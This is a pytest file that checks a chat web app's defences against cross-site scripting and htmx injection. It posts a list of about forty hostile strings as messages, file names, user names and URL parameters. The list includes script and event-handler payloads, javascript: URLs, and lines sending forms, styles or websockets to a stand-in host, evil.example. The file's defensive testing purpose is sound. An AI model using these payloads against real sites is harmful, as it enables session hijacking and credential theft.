"""Forty texts that would like to be elements, attributes, scripts or swaps, wherever people's words are shown."""

from __future__ import annotations

from collections import Counter
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from aiohttp import FormData
from markupsafe import escape
from yarl import URL

from chatapp.model import names
from chatapp.model.refusals import Rejected
from ear import Ear
from people import Person
from pictures import picture

PAYLOADS = """\
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' autofocus onfocus='x
</textarea><script>x</script>
</title><script>x</script>
</template><script>x</script>
</li></ol><b>
<!--<img src="--><img src=x onerror=x>
<![CDATA[<script>x</script>]]>
<?xml version='1.0'?>
<iframe srcdoc='<script>x</script>'>
<object data=javascript:alert(1)>
<embed src=data:text/html,x>
<base href=//evil.example>
<meta http-equiv=refresh content='0;url=//evil.example'>
<link rel=stylesheet>
<form action=//evil.example><input name=password>
<style>@import '//evil.example'</style>
<a href=#>x</a>
javascript:alert(1)
JaVa<TAB>script:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
http://x.vn/"onmouseover="alert(1)
http://x.vn/'><img src=x>
https://x.vn/`onload=x
mailto:a@b.vn"x="y
<div hx-get=/logout hx-trigger=load>
<div data-hx-post=/logout hx-trigger=load>
<b hx-on:click=alert(1)>
<div id="messages" hx-swap-oob="innerHTML:#header">x</div>
<ol hx-swap-oob="timeline:#messages"><li>
<div ws-connect=//evil.example ws-send>
<div hx-chat="//evil.example" hx-ext=ws>
{{7*7}}{% raw %}${7*7}#{7}
&lt;script&gt;&#60;img&#x3c;
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
`<b>` **<i>** _<u>_
""".replace("<TAB>", "\t").splitlines()
MARKS = {"a", "br", "strong", "em", "s", "code", "code translate", "pre", "blockquote", "ul", "ol", "li", "span"}
LINK = "a href rel target"


class Shape(HTMLParser):
    """Count the elements of a page with the names of their attributes, and keep where links and pictures lead."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: Counter[str] = Counter()
        self.addresses: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements[" ".join([tag, *sorted(name for name, _ in attrs)])] += 1
        self.addresses += [value or "" for name, value in attrs if name in {"href", "src", "action", "srcset"}]

    @property
    def kinds(self) -> set[str]:
        """Return which elements there are, but for those that marks in a text become."""
        return {each for each in self.elements if each not in MARKS | {LINK, "pre tabindex"}}


def form(content: str, name: str) -> FormData:
    data = FormData(quote_fields=False)
    data.add_field("content", content)
    data.add_field("pictures", picture(), filename=name.replace('"', "%22").replace("\n", ""), content_type="image/png")
    return data


async def shapes(person: Person, *paths: str) -> dict[str, Shape]:
    return {path: Shape(await (await person.get(path)).text()) for path in paths}


PAGES = ("/rooms/tech", "/rooms/tech/messages", "/rooms", "/people", "/settings")


async def test_forty_hostile_messages_and_file_names_add_no_element_and_no_attribute(meet) -> None:
    an, binh = await meet("An"), await meet("Bình")
    await an.post("/rooms/tech/messages", form("plain", "plain.png"))
    await binh.post("/rooms/tech/messages", form("plain", "plain.png"))
    before = await shapes(binh, *PAGES)
    async with binh.socket("/ws?room=tech&epoch=x") as socket:
        ear = Ear(socket)
        await ear.control("ready")
        plain = set[str]()
        for number, payload in enumerate(["plain", *PAYLOADS]):
            answer = await an.post("/rooms/tech/messages", form(payload, f"{payload}.png"), allow_redirects=False)
            assert answer.status == 303, payload
            fragment = await ear.until(lambda frame: frame.startswith("<ol") and "timeline:#messages" in frame)
            ear.heard.clear()
            shape = Shape(fragment)
            plain = plain or shape.kinds
            assert shape.kinds == plain, payload
            assert all(each.startswith(("/", "http://", "https://", "mailto:")) for each in shape.addresses), payload
            assert number < 1 or answer.headers["Location"].startswith("/rooms/tech#m-")
    after = await shapes(binh, *PAGES)
    for path in PAGES:
        assert after[path].kinds <= before[path].kinds, (path, after[path].kinds - before[path].kinds)
        assert not [each for each in after[path].addresses if "script:" in each or each.startswith("data:")], path
    assert after["/rooms/tech"].elements["div class"] > 40


async def test_a_hostile_text_that_is_refused_or_edited_comes_back_as_text(meet) -> None:
    an = await meet("An")
    answer = await an.post("/rooms/tech/messages", {"content": "plain"}, allow_redirects=False)
    number = answer.headers["Location"].partition("#m-")[2]
    edit = f"/rooms/tech/messages/{number}/edit"
    await an.post(edit, {"content": "still plain"})
    usual = Shape(await (await an.post("/rooms/tech/messages", {"content": "x" * 4001})).text()).kinds
    form_usual = Shape(await (await an.get(edit)).text()).kinds
    for payload in PAYLOADS:
        refused = await an.post("/rooms/tech/messages", {"content": payload + "x" * 4001})
        assert refused.status == 422
        assert Shape(await refused.text()).kinds <= usual, payload
        assert (await an.post(edit, {"content": payload}, allow_redirects=False)).status == 303
        assert Shape(await (await an.get(edit)).text()).kinds == form_usual, payload
    versions = Shape(await (await an.get(f"/rooms/tech/messages/{number}/versions")).text())
    assert not {each for each in versions.kinds if ("script" in each and "src" not in each) or " on" in each}


def possible(payload: str) -> str | None:
    """Return as much of a hostile text as a name may hold."""
    name = payload.replace("/", "").replace("\\", "").replace("\t", "")[: names.LIMIT].strip()
    try:
        return names.check(name)
    except Rejected:
        return None


HOSTILE_NAMES = sorted({name for name in map(possible, PAYLOADS) if name is not None})


@pytest.fixture
def brisk(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let a server that starts after this one announce people without its usual pauses."""
    monkeypatch.setattr("chatapp.chat.presence._PAUSE", 0.02)


async def test_thirty_hostile_names_add_no_element_and_no_attribute(brisk, meet) -> None:
    an = await meet("An")
    usual: list[set[str]] = []
    tried = 0
    async with an.socket("/ws?room=tech&epoch=x") as socket:
        ear = Ear(socket)
        await ear.control("ready")
        for name in ["Plain", "Ordinary", "Usual", *HOSTILE_NAMES]:
            person = await meet(name)
            if not await person.is_logged_in():  # it looks like one of those before
                continue
            tried += 1
            frames, pages = await shown(ear, person)
            direct = await (await an.get(URL(f"/direct/{quote(name, safe='')}", encoded=True))).text()
            assert f"<title>{escape(name)}" in direct.replace("\n", "").replace("  ", ""), name
            shapes = [Shape(html).kinds for html in (frames, pages, direct)]
            if name not in HOSTILE_NAMES:
                usual = [old | new for old, new in zip(usual or shapes, shapes, strict=True)]
            strange = [new - old for old, new in zip(usual, shapes, strict=True)]
            assert strange == [set(), set(), set()], name
    assert tried > 25


async def shown(ear: Ear, person: Person) -> tuple[str, str]:
    """Let somebody do what shows their name. Return the frames and the pages that showed it."""
    async with person.socket("/ws?room=tech&epoch=x") as socket:
        theirs = Ear(socket)
        await theirs.control("ready")
        await theirs.say("typing")
        await person.post("/direct/An/messages", {"content": "x"})
        await person.post("/rooms/tech/messages", {"content": "x"})
        for sign in ("newcomers:", "typing:#typing", "unread:#side", "timeline:#messages"):
            await ear.until(lambda frame, sign=sign: sign in frame)
    frames = "".join(frame for frame in await ear.told() if frame.startswith("<") and "presence" not in frame)
    return frames, "".join([await (await person.get(path)).text() for path in PAGES])


async def test_a_hostile_address_is_never_an_element_of_the_page_that_refuses_it(meet, client) -> None:
    an = await meet("An")
    html = {"Accept": "text/html"}
    usual = {person: Shape(await (await person.get("/nowhere", headers=html)).text()).kinds for person in (an, client)}
    log_in = Shape(await (await client.get("/login")).text()).kinds
    for payload in PAYLOADS:
        for person in (an, client):
            missing = await person.get("/nowhere", params={"q": payload}, headers=html)
            assert Shape(await missing.text()).kinds == usual[person]
        page = await client.get("/login", params={"next": f"/rooms/{payload}"})
        assert Shape(await page.text()).kinds <= log_in | {"input name type value"}, payload
